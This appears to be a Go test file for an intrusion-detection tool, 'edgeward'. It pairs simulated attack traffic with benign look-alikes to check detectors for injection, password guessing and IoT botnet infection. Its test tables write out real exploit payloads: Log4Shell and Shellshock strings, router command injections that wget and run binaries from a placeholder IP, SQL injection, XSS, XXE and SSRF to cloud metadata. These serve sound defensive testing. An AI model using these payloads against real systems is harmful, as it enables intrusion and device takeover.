package detect

import (
	"fmt"
	"testing"
	"time"

	"edgeward/internal/event"
	"edgeward/internal/ident"
)

// login gives one attempt to log in by Telnet.
func (f *feed) login(src, dst, user string, pass uint64, outcome string) {
	f.tcp(src, dst, 4000, 23, &event.Login{Service: event.ProtoTelnet, User: user, Secret: secret(pass), Outcome: outcome, Clear: true})
}

// takeover is a device's password guessed, a program loaded, and the device
// scanning for others.
func takeover(f *feed) {
	for i := range uint64(10) {
		f.wait(2*time.Second).login(laptop, camera, "root", i, "failure")
	}
	f.wait(time.Second).login(laptop, camera, "root", 99, "success")
	for _, c := range []string{"enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox QWERT", "cd /tmp; wget http://203.0.113.7/b/x.mips; chmod 777 x.mips; ./x.mips"} {
		f.wait(time.Second).tcp(laptop, camera, 4000, 23, &event.Telnet{Event: "command", Command: c})
	}
	f.wait(time.Second).tcp(camera, stranger, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/b/x.mips", Host: stranger, Magic: "elf-mips", Size: 60000, Dir: event.ToClient, Agent: "Wget"})
	for i := range byte(40) {
		f.wait(time.Second).flowTo(camera, ip(i, i), 23, &event.Flow{PktsToServer: 1, TCPFlagsTS: flagSYN, ConnState: "S0"})
	}
}

func (f *feed) get(src, dst, url string) {
	f.tcp(src, dst, 4000, 80, &event.HTTP{Method: "GET", URL: url, Host: "www.example.org", Status: 200, UserAgent: "Mozilla/5.0 (X11; Linux x86_64)"})
}

func accessScenes() []scene {
	return []scene{
		{check: "exploit.web-injection",
			attack: func(f *feed) { f.get(stranger, server, "/item?id=1%20UNION%20ALL%20SELECT%20name,pass%20FROM%20users") },
			near: func(f *feed) {
				for _, u := range []string{"/search?q=the+european+union+selects+a+president", "/a/../b.html", "/item?id=5&order=name", "/q?text=it%27s+or+it%27s+not", "/list?filter=price%3E10"} {
					f.get(laptop, cloud, u)
				}
			}},
		{check: "exploit.command-injection",
			attack: func(f *feed) { // OMI runs what nobody had a password for
				f.tcp(stranger, server, 4000, 5985, &event.HTTP{Method: "POST", URL: "/wsman", Host: server, Status: 200, ReqType: "application/soap+xml", ReqBody: "<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteShellCommand</a:Action>"})
			},
			near: func(f *feed) { // somebody with a password; a service that refuses
				for _, b := range []event.HTTP{{Status: 200, Authenticate: "Basic"}, {Status: 401}} {
					b.Method, b.URL, b.Host, b.ReqBody = "POST", "/wsman", server, "SCX_OperatingSystem/ExecuteShellCommand"
					f.tcp(laptop, server, 4000, 5985, &b)
				}
			}},
		{check: "exploit.command-injection",
			attack: func(f *feed) { f.get(stranger, server, "/ping.cgi?addr=127.0.0.1;cat%20/etc/passwd") },
			near: func(f *feed) {
				for _, u := range []string{"/css?family=Open+Sans|Roboto", "/a?b=1&id=5&cat=3&ls=2", "/x;jsessionid=12?y=1", "/f?fields=name|id", "/s?q=how+to+use+wget", "/p?c=a%26b", "/t?price=$(free)"} {
					f.get(laptop, cloud, u)
				}
				f.tcp(laptop, cloud, 4000, 80, &event.HTTP{Method: "POST", URL: "/forum", ReqType: "text/plain", ReqBody: "Hello;\nset it up | cat is nice; touch base", Status: 200})
			}},
		{check: "credential.guessing",
			attack: func(f *feed) {
				for i := range uint64(8) {
					f.wait(7*time.Second).login(laptop, camera, "admin", i, "failure")
				}
			},
			near: func(f *feed) {
				for i := range uint64(7) {
					f.wait(7*time.Second).login(laptop, camera, "admin", i, "failure")
				}
				f.wait(time.Hour)
				for i := range uint64(20) { // one a minute, by different people
					f.wait(time.Minute).login(ip(0, byte(i)), camera, "admin", i, "failure")
				}
				f.wait(time.Hour)
				for range 3 { // a client that offers its keys one after the other, each time
					f.flow++
					for range 4 {
						f.wait(25*time.Millisecond).tcp(laptop, server, 40000, 22, &event.Login{Service: event.ProtoSSH, Mechanism: "ssh", Outcome: "failure"})
					}
				}
				f.wait(time.Hour)
				for range 20 { // channels of one session that are set up without a name
					f.wait(time.Second).tcp(laptop, server, 40000, 445, &event.Login{Service: event.ProtoSMB, Mechanism: "anonymous", Outcome: "failure"})
				}
			}},
		{check: "credential.guessing",
			attack: func(f *feed) { // sealed connections that end all alike
				for range 14 {
					f.wait(2 * time.Second)
					f.flow++
					f.tcp(laptop, server, 40000, 2222, &event.SSH{ClientBanner: "libssh2", Auth: "unknown"})
					f.flow--
					b := talk(1744, 1839)
					b.AppProto, b.End = event.ProtoSSH, f.now+int64(time.Second)
					f.flowTo(laptop, server, 2222, b)
				}
			},
			near: func(f *feed) { // the same, and somebody got in
				for range 14 {
					f.wait(2 * time.Second)
					f.flow++
					f.tcp(laptop, server, 40000, 2222, &event.SSH{ClientBanner: "libssh2", Auth: "success"})
					f.flow--
					b := talk(1744, 1839)
					b.AppProto, b.End = event.ProtoSSH, f.now+int64(time.Second)
					f.flowTo(laptop, server, 2222, b)
				}
			}},
		{check: "credential.guessed",
			attack: func(f *feed) {
				for i := range uint64(9) {
					f.wait(2*time.Second).login(laptop, camera, "admin", i, "failure")
				}
				f.wait(2*time.Second).login(laptop, camera, "admin", 77, "success")
			},
			near: func(f *feed) { // somebody mistypes twice; a phone whose nonce is stale
				f.login(laptop, camera, "admin", 1, "failure")
				f.wait(5*time.Second).login(laptop, camera, "admin", 2, "failure")
				f.wait(5*time.Second).login(laptop, camera, "admin", 3, "success")
				for range 6 {
					f.wait(5*time.Minute).udp(server, cloud, 5060, 5060, &event.Login{Service: event.ProtoSIP, User: "a", Secret: secret(uint64(f.now)), Mechanism: "digest", Outcome: "failure"})
					f.wait(time.Second).udp(server, cloud, 5060, 5060, &event.Login{Service: event.ProtoSIP, User: "a", Secret: secret(uint64(f.now)), Mechanism: "digest", Outcome: "success"})
				}
			}},
		{check: "infection.loader",
			attack: func(f *feed) {
				f.tcp(laptop, camera, 4000, 23, &event.Telnet{Event: "command", Command: "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", Output: "ECCHI: applet not found"})
			},
			near: func(f *feed) {
				for _, c := range []string{"enable", "show running-config", "cd /tmp", "busybox ls", "cat /var/log/messages", "reboot", "wget --help", "chmod 755 x"} {
					f.tcp(laptop, camera, 4000, 23, &event.Telnet{Event: "command", Command: c})
				}
			}},
		{check: "infection.payload-download",
			attack: func(f *feed) {
				f.tcp(camera, stranger, 4000, 8081, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/mpsl", Host: stranger + ":8081", Magic: "elf-mips", Size: 90000, Dir: event.ToClient, Agent: "wget/1.2"})
			},
			near: func(f *feed) { // firmware from a maker, a picture, a script of a page
				f.tcp(camera, cloud, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/fw/CAM-2.1.bin", Host: "update.maker.example", Magic: "elf-mips", Size: 900000, Dir: event.ToClient})
				f.tcp(laptop, cloud, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/a.png", Host: cloud, Magic: "image", Size: 5000, Dir: event.ToClient, Agent: "Mozilla/5.0"})
				f.tcp(laptop, cloud, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/a.js", Host: "www.example.org", Magic: "text", Size: 5000, Dir: event.ToClient, Agent: "Mozilla/5.0"})
			}},
		{check: "infection.payload-download",
			attack: func(f *feed) { // programs that pretend to be something else, or whose fetcher does
				f.tcp(laptop, stranger, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/table.png", Host: stranger, Magic: "pe", Mime: "image/png", Size: 90000, Dir: event.ToClient, Agent: "loader/1.0"})
				f.tcp(camera, cloud, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/s.php", Host: cloud, Magic: "pe", Size: 90000, Dir: event.ToClient, Agent: "qwTyyEKzNtGatwnJjmCc"})
			},
			near: func(f *feed) { // a program of a service with a name, by a program with one
				f.tcp(laptop, cloud, 4000, 80, &event.FileInfo{AppProto: event.ProtoHTTP, Filename: "/setup.exe", Host: cloud, Magic: "pe", Mime: "application/octet-stream", Size: 90000, Dir: event.ToClient, Agent: "VendorUpdater"})
			}},
		{check: "infection.self-propagation",
			attack: func(f *feed) {
				for i := range byte(40) {
					f.syn(camera, ip(i, i), 23)
				}
			},
			near: func(f *feed) { // somebody scans the own network, and one outside
				for i := range byte(40) {
					f.syn(laptop, fmt.Sprintf("192.168.1.%d", 100+i), 23)
					f.syn(laptop, fmt.Sprintf("198.51.100.%d", 100+i), 80)
				}
			}},
		{check: "infection.device-compromised",
			attack: takeover,
			near: func(f *feed) { // guessed at in vain, and a scan by somebody else
				for i := range uint64(10) {
					f.login(laptop, camera, "root", i, "failure")
				}
				for i := range byte(40) {
					f.syn(server, fmt.Sprintf("192.168.1.%d", 100+i), 23)
				}
			}},
	}
}

// TestAttackText has one line for each trick of attackers and for texts that
// look like one.
func TestAttackText(t *testing.T) {
	for _, c := range []struct {
		text string
		part requestPart
		want string // command, web or nothing
	}{
		{"/a?x=${jndi:ldap://203.0.113.9:1389/a}", inURL, "command"},
		{"uname=%24%7Bjndi%3Armi%3A%2F%2F203.0.113.9%2Fa%7D", inForm, "command"},
		{"${${lower:j}${lower:n}di:${::-l}dap://203.0.113.9/a}", inAgent, "command"},
		{"() { :; }; echo; /bin/id", inAgent, "command"},
		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/a)", inURL, "command"},
		{"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws", inURL, "command"},
		{"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/x", inURL, "command"},
		{"/boaform/admin/formPing?target_addr=;wget%20http://203.0.113.9/bot&waninf=1", inURL, "command"},
		{"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/g`&ipv=0", inForm, "command"},
		{"<NewInternalClient>`cd /var; wget http://203.0.113.9/r; sh r`</NewInternalClient>", inBody, "command"},
		{"/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=shell_exec(id)&vars[1][]=1", inURL, "command"},
		{"/a?x=1%26%26whoami", inURL, "command"},
		{"/a.action?name=%{(#_memberAccess['allowStaticMethodAccess']=true)}", inURL, "command"},
		{"/a?page=php://input", inURL, "command"},
		{"/level/15/exec//show", inURL, "command"},
		{"/?class.module.classLoader.resources.context=1", inURL, ""}, // nothing in it says attack by itself: no suspicious byte
		{"class.module.classLoader.resources.context.parent=%25%7Ba%7D", inForm, "command"},
		{"/a?id=1'+OR+'1'='1", inURL, "web"},
		{"/a?id=1;waitfor+delay+'0:0:5'--", inURL, "web"},
		{"/a?id=1/**/union/**/select/**/1,2", inURL, "web"},
		{"/a?f=..%2f..%2f..%2fetc%2fpasswd", inURL, "web"},
		{"/a?f=....//....//etc/passwd", inURL, "web"},
		{"/a/%252e%252e/%252e%252e/x", inURL, "web"},
		{"/a?q=%3Cscript%3Ealert(1)%3C/script%3E", inURL, "web"},
		{"/a?q=\"><img src=x onerror=alert(1)>", inURL, "web"},
		{"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/hostname'>]>", inBody, "web"},
		{"/a?url=http://169.254.169.254/latest/meta-data", inURL, "web"},
		{"/a?url=http%3A%2F%2F169.254.169.254/latest", inURL, "web"},
		{"/wiki/C%2B%2B_(programming)", inURL, ""},
		{"/search?q=select+from+list+where+to+go", inURL, ""},
		{"/a?json={\"id\":1,\"name\":\"x\"}", inURL, ""},
		{"/a?return=%2Fhome%3Fa%3D1%26b%3D2", inURL, ""},
		{"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; id)", inAgent, ""},
		{"name=O%27Brien&comment=one+or+two", inForm, ""},
		{"{\"text\":\"run ls -la; then cat file\"}", inBody, ""},
		{"/p?data=dGVzdA%3D%3D;base64", inURL, ""},
	} {
		a, ok := readAttack(new([maxAttackText]byte), c.text, c.part)
		got := ""
		if ok && a.command {
			got = "command"
		} else if ok {
			got = "web"
		}
		if got != c.want {
			t.Errorf("%q: %q (%s), want %q", c.text, got, a.what, c.want)
		}
	}
}

// TestInjectionThatWorks wants an attack proven by the victim's contact.
func TestInjectionThatWorks(t *testing.T) {
	f := newFeed(t, Options{})
	f.get(stranger, server, "/a?x=${jndi:ldap://"+cloud+":1389/a}")
	if got := f.found("exploit.command-injection"); len(got) != 1 || got[0].Severity != ident.High {
		t.Fatalf("before: %+v", got)
	}
	f.wait(time.Second).flowTo(server, cloud, 1389, talk(100, 200))
	if got := f.found("exploit.command-injection"); len(got) != 1 || got[0].Severity != ident.Critical {
		t.Fatalf("after: %+v", got)
	}
}

func FuzzAttackText(f *testing.F) {
	f.Add("/a?id=1%27+or+1=1;cat+/etc/passwd", uint8(0))
	f.Add("${${::-j}ndi:ldap://x}", uint8(3))
	f.Add("%%%25%2", uint8(2))
	f.Fuzz(func(_ *testing.T, text string, part uint8) {
		readAttack(new([maxAttackText]byte), text, requestPart(part%4))
	})
}
